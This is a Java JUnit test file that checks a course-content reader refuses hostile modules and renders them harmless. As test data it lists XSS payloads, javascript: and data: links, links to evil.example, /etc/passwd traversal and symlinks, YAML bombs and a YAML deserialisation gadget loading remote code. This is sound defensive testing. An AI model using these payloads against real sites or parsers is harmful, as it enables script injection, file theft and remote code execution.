package vn.quantriet.catalogue.content;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.quantriet.catalogue.content.SmallContent.MODULE;
import static vn.quantriet.catalogue.content.SmallContent.section;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.quantriet.catalogue.content.ModuleSource.SourceFile;

/**
 * A module made to do harm is refused, and quickly. Should one have got in all the same, as an edition stored by an older checker, what
 * reaches a browser is still harmless.
 */
class HostileModuleTest {

    private static final Duration SOON = Duration.ofSeconds(5);
    private static final String FIRST = MODULE + "01-mot.md";

    @TempDir
    private Path folder;

    private SmallContent content;

    @BeforeEach
    void makeSoundContent() {
        content = new SmallContent(folder);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "lời <script src=//evil.example></script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><circle/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<iframe src=https://evil.example></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<style>body{display:none}</style>",
                "<p onclick=alert(1)>x</p>",
                "<form action=https://evil.example><input name=x></form>",
                "<!-- <img src=x> -->",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<base href=https://evil.example>",
                "<meta http-equiv=refresh content=0>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#115;cript:alert(1))",
                "[x](&#x6A;avascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:x)",
                "[x](file:///etc/passwd)",
                "[x](//evil.example/a)",
                "[x](\\\\evil.example)",
                "[x]( javascript:alert)",
                "<javascript:alert(1)>",
                "![x](https://evil.example/a.png)",
                "![x](//evil.example/a.png)",
                "![x](data:image/png;base64,AAAA)",
                "![x](javascript:alert(1))",
                "![x](../../khac/images/a.png)",
                "![x](images/../../../documents.yaml)",
                "![x](images/so-do.png?x=1)",
                "![x](/etc/passwd)",
                "![x](file:///etc/passwd)",
                "[x]: javascript:alert(1)\n\n[x]",
                "**<b onmouseover=alert(1)>x</b>**",
                "> <script>alert(1)</script>",
                "| a |\n|---|\n| <script>alert(1)</script> |"
            })
    void refusesWhatCouldActAndNeutralisesIt(String attack) {
        content.addToFirstSection(attack);
        var read = content.read();
        assertThat(read.broken()).containsExactly("mau");
        assertThat(read.faults())
                .isNotEmpty()
                .allSatisfy(fault -> assertThat(fault.file()).isEqualTo(FIRST));
        assertThat(read.faults().getFirst().line()).isGreaterThanOrEqualTo(11);
        assertHarmless(htmlOf(attack));
    }

    /** Attributes are looked for only within real tags: what is shown as text has its brackets escaped. */
    private static void assertHarmless(String html) {
        assertThat(html)
                .doesNotContainPattern("(?i)<(script|svg|iframe|style|form|input|math|base|meta|object|embed|link)");
        assertThat(html).doesNotContainPattern("(?i)<[^>]*\\son[a-z]+\\s*=");
        assertThat(html).doesNotContainPattern("(?i)(href|src)=\"\\s*(?!https?://|/van-ban/|/hoc/|images/)");
        assertThat(html).doesNotContainPattern("(?i)src=\"(?!images/[a-z0-9.-]+\")");
        assertThat(html).doesNotContain("<!--").doesNotContain("evil.example\"");
    }

    @Test
    void refusesAPictureOfFiftyMegabytesUnread() throws IOException {
        var picture = folder.resolve(MODULE + "images/to.png");
        try (var file = new RandomAccessFile(picture.toFile(), "rw")) {
            file.setLength(50L << 20);
        }
        assertRefused("file-too-big", MODULE + "images/to.png");
    }

    @Test
    void followsNoLinkOutOfTheFolder() throws IOException {
        content.link(MODULE + "05-nam.md", Path.of("/etc/passwd")).link("modules/khac", Path.of("/etc"));
        var outside = Files.createDirectory(folder.resolve("ngoai"));
        content.delete(MODULE + "images/so-do.png");
        Files.delete(folder.resolve(MODULE + "images"));
        content.link(MODULE + "images", outside);
        var read = content.read();
        assertThat(read.broken()).containsExactlyInAnyOrder("mau", "khac");
        assertThat(read.faults())
                .filteredOn(fault -> fault.code().equals("symbolic-link"))
                .extracting(Fault::file)
                .containsExactly("modules/khac", MODULE + "05-nam.md", MODULE + "images");
        var single = new SmallContent(folder.resolve("hai")).link(MODULE + "images/a.png", Path.of("/etc/passwd"));
        assertThat(single.read().faults())
                .extracting(fault -> fault.code() + " " + fault.file())
                .containsExactly("symbolic-link " + MODULE + "images/a.png");
        assertThat(read.faults())
                .noneSatisfy(fault -> assertThat(fault.message()).contains("root"));
    }

    @Test
    void refusesTenThousandLevelsOfNesting() {
        var deep = 10_000;
        for (var nested : List.of(
                "> ".repeat(deep) + "x",
                "- ".repeat(deep) + "x",
                "1. ".repeat(deep) + "x",
                "*a ".repeat(deep) + "x" + "*".repeat(deep),
                "**a ".repeat(deep) + "b**".repeat(deep),
                "[".repeat(deep) + "x" + "](https://example.org)".repeat(deep),
                "![".repeat(deep) + "x" + "](images/so-do.png)".repeat(deep),
                nestedList(400))) {
            content.write(FIRST, section("Một", "mot", nested));
            Assertions.assertTimeoutPreemptively(SOON, () -> {
                content.read();
                htmlOf(nested);
            });
        }
        content.write(FIRST, section("Một", "mot", "> ".repeat(deep) + "x"));
        assertRefused("nesting-too-deep", FIRST);
        content.write(FIRST, section("Một", "mot", nestedList(400)));
        assertRefused("nesting-too-deep", FIRST);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "*_`",
                "[",
                "![",
                "<",
                "<a ",
                "&",
                "\\",
                "{",
                "{57-NQ/TW 2024 §",
                "}",
                "|",
                "| a ",
                "~",
                "- a\n",
                "# ",
                "[a]: b\n",
                "`` ",
                "<!--",
                "a@",
                "\"",
                "|-"
            })
    void readsLongRunsOfOneMarkQuickly(String mark) {
        var hostile = mark.repeat(300_000 / mark.length());
        content.write(FIRST, section("Một", "mot", hostile))
                .write(MODULE + "glossary.md", hostile)
                .write(MODULE + "questions.gift", hostile);
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            assertThat(content.read().broken()).containsExactly("mau");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<a%s>",
                "<a%s",
                "</a%s>",
                "<!--%s-->",
                "<?%s?>",
                "<![CDATA[%s]]>",
                "<!A%s>",
                "[a%s](b)",
                "[a](<%s>)",
                "[a](%s)",
                "[a](b \"%s\")",
                "[a%s]: b",
                "<https://%s>",
                "`%s`",
                "```%s\nx",
                "&%s;",
                "{%s}",
                "{57-NQ/TW 2024 §%s}",
                "**%s**"
            })
    void readsLongPartsWithoutExhaustingTheStack(String frame) {
        for (var filling : List.of(" b", " b=c", " b='c'", "x", "\\]", "(", "- ")) {
            content.write(FIRST, section("Một", "mot", frame.replace("%s", filling.repeat(60_000))));
            Assertions.assertTimeoutPreemptively(SOON, () -> content.read());
        }
    }

    @Test
    void refusesAHugeTable() {
        var table = "| a ".repeat(500) + "|\n" + "|---".repeat(500) + "|\n" + ("| x ".repeat(500) + "|\n").repeat(400);
        content.write(FIRST, section("Một", "mot", table));
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            assertThat(content.read().broken()).containsExactly("mau");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c]",
                "a: &a\n  b: *a",
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                "a: !!binary AAAA",
                "<<: *a",
                "? [a, b]\n: c",
                "%TAG ! tag:evil,2000:\n---\na: !x b",
                "a: b\n---\nc: d"
            })
    void makesNothingOfYamlBombs(String bomb) {
        for (var path : List.of(MODULE + "questions.yaml", "documents.yaml")) {
            var spoilt = new SmallContent(folder).write(path, bomb);
            Assertions.assertTimeoutPreemptively(SOON, () -> {
                assertThat(spoilt.read().faults())
                        .isNotEmpty()
                        .anySatisfy(fault -> assertThat(fault.file()).isEqualTo(path));
                assertThat(spoilt.read().modules()).isEmpty();
            });
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{", "- ", "? ", "a: [", "- - ", "\"", "&a ", "*a ", "!!a ", "a:\n ", "|", "%"})
    void readsAMegabyteOfYamlQuickly(String mark) {
        content.write("documents.yaml", mark.repeat(900_000 / mark.length()));
        Assertions.assertTimeoutPreemptively(SOON, () -> {
            assertThat(content.read().faults()).isNotEmpty();
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\u0000", "\u0007", "\u200B", "\u200D", "\u202E", "\u2066", "\u2028", "\uFEFF", "\u00AD", "\u001B"
            })
    void refusesCharactersThatNobodySees(String hidden) {
        content.addToFirstSection("57" + hidden + "-NQ/TW");
        assertRefused("hidden-character", FIRST);
        assertThat(htmlOf("57" + hidden + "-NQ/TW")).contains("57-NQ/TW");
    }

    @Test
    void refusesBytesThatAreNoUtf8() {
        content.write(FIRST, (section("Một", "mot", "x") + "\u00C3\u0028").getBytes(StandardCharsets.ISO_8859_1));
        assertRefused("file-not-utf8", FIRST);
        content.write(FIRST, section("Một", "mot", "x").getBytes(StandardCharsets.UTF_16));
        assertThat(content.read().faults())
                .filteredOn(fault -> fault.file().equals(FIRST))
                .extracting(Fault::code)
                .contains("file-not-utf8");
    }

    @Test
    void takesWindowsFilesForTheSame() {
        var before = content.read().modules().getFirst();
        for (var path : List.of(
                "documents.yaml",
                FIRST,
                MODULE + "module.md",
                MODULE + "glossary.md",
                MODULE + "questions.gift",
                MODULE + "questions.yaml")) {
            content.write(path, "\uFEFF" + content.text(path).replace("\n", "\r\n"));
        }
        var after = content.read();
        assertThat(after.faults()).isEmpty();
        assertThat(after.modules().getFirst().source().hash())
                .isEqualTo(before.source().hash());
        assertThat(after.modules().getFirst().module()).isEqualTo(before.module());
    }

    @Test
    void leavesTheOtherModulesAlone() {
        content.addToFirstSection("<script>alert(1)</script>");
        for (var file : content.read().faults()) {
            assertThat(file.module()).isEqualTo("mau");
        }
        var good = new SmallContent(folder.resolve("tot"));
        for (var name : List.of(
                "module.md", "01-mot.md", "02-hai.md", "03-ba.md", "04-bon.md", "questions.gift", "questions.yaml")) {
            content.write("modules/tot/" + name, good.text(MODULE + name));
        }
        content.write("modules/tot/images/so-do.png", SmallContent.PNG);
        var read = content.read();
        assertThat(read.modules()).extracting(checked -> checked.module().key()).containsExactly("tot");
        assertThat(read.broken()).containsExactly("mau");
    }

    @Test
    void survivesAStoredEditionOfAnyKind() {
        var files = new ArrayList<SourceFile>();
        for (var path : List.of(
                "module.md",
                "1.md",
                "01-.md",
                "../../x",
                "images/../x.png",
                "images/",
                "",
                "glossary.md",
                "questions.yaml",
                "questions.gift")) {
            files.add(new SourceFile(path, "---\n[[[*a <script>{\u0000".getBytes(StandardCharsets.UTF_8)));
        }
        var module = ModuleReader.read(new ModuleSource("x", files, ""), new DocumentRegister(List.of()));
        assertThat(module.key()).isEqualTo("x");
        module.sections().forEach(section -> assertHarmless(section.html()));
        assertThat(ModuleReader.read(new ModuleSource("y", List.of(), ""), new DocumentRegister(List.of()))
                        .sections())
                .isEmpty();
    }

    private void assertRefused(String code, String file) {
        Assertions.assertTimeoutPreemptively(SOON, () -> {
            var read = content.read();
            assertThat(read.broken()).containsExactly("mau");
            assertThat(read.faults()).extracting(Fault::code).contains(code);
            assertThat(read.faults())
                    .filteredOn(fault -> fault.code().equals(code))
                    .allSatisfy(fault -> assertThat(fault.file()).isEqualTo(file));
        });
    }

    /** As an edition that got in would be read. */
    private String htmlOf(String markdown) {
        var source = new ModuleSource(
                "mau",
                List.of(new SourceFile(
                        "01-mot.md", section("Một", "mot", markdown).getBytes(StandardCharsets.UTF_8))),
                "");
        return ModuleReader.read(source, content.read().register())
                .sections()
                .getFirst()
                .html();
    }

    private static String nestedList(int levels) {
        var list = new StringBuilder();
        for (var level = 0; level < levels; level++) {
            list.append("  ".repeat(level)).append("- x\n");
        }
        return list.toString();
    }
}
